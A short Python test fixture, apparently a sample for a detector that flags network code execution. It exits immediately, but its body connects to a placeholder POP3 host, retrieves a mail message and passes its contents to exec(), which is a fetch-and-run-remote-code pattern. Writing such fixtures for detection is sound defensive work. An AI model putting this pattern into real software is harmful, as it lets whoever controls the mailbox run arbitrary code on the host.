raise SystemExit('a fixture')
# held by network-exec
import poplib
box = poplib.POP3("x.example.invalid")
answer, lines, size = box.retr(1)
exec(b"\n".join(lines))
